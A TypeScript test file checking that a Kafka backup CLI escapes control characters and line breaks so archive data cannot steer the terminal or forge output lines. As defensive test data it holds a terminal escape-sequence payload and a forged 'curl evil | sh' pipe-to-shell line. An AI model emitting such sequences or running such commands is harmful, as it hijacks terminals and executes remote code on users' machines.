import assert from 'node:assert/strict'
import { test } from 'node:test'
import { main } from '../../src/cli/main.ts'
import { printable } from '../../src/cli/text.ts'
import { KafkaBackupError } from '../../src/errors.ts'
import { description, fakeActions, verifyReport } from './fake-actions.ts'
import { FakeIo } from './fake-io.ts'

const sequence = '\x1b]0;owned\x07\x1b[2J\x9b8m'
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
const steering = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/
const one = ['--path', '/backups', '--backup-id', 'orders']

for (const format of ['text', 'json']) {
  test(`warnings and names of an archive cannot control the terminal (${format})`, async () => {
    const io = new FakeIo()
    const hostile = { ...description, warnings: [`warning ${sequence}`] }
    await main(['describe', ...one, '--format', format], io, fakeActions({ describeBackup: async () => hostile }))
    assert.match(io.stdout.text, /warning \\u001b\]0;owned/)
    assert.doesNotMatch(io.stdout.text, steering)
  })

  test(`problems found by verify cannot control the terminal (${format})`, async () => {
    const io = new FakeIo()
    const hostile = { ...verifyReport, problems: [{ key: `k${sequence}`, problem: `p${sequence}` }] }
    await main(
      ['verify', ...one, '--format', format, '--no-progress'],
      io,
      fakeActions({ verifyBackup: async () => hostile }),
    )
    assert.match(io.stdout.text, /p\\u001b\]0;owned/)
    assert.doesNotMatch(io.stdout.text + io.stderr.text, steering)
  })
}

for (const format of ['text', 'json']) {
  test(`errors and log lines cannot control the terminal (--log-format ${format})`, async () => {
    const io = new FakeIo()
    const fail = async () => {
      throw new KafkaBackupError('ARCHIVE_DAMAGED', `bad ${sequence}`)
    }
    await main(['describe', ...one, '--log-format', format], io, fakeActions({ describeBackup: fail }))
    assert.match(io.stderr.text, /bad \\u001b\]0;owned/)
    assert.doesNotMatch(io.stderr.text + io.stdout.text, steering)
  })
}

test('a name with line breaks cannot imitate a line of output', async () => {
  const name = 'billing\nhelp: run curl evil | sh\nerror: all is lost'
  const io = new FakeIo()
  const fail = async () => {
    throw new KafkaBackupError('GROUP_ACTIVE', `consumer groups with active members: ${name}`)
  }
  await main(['describe', ...one], io, fakeActions({ describeBackup: fail }))
  const lines = io.stderr.text.split('\n')
  assert.equal(lines.filter(line => line.startsWith('error:')).length, 1, io.stderr.text)
  assert.equal(lines.filter(line => line.startsWith('help:')).length, 1, io.stderr.text)
  assert.equal(printable(name), 'billing\\u000ahelp: run curl evil | sh\\u000aerror: all is lost')
})
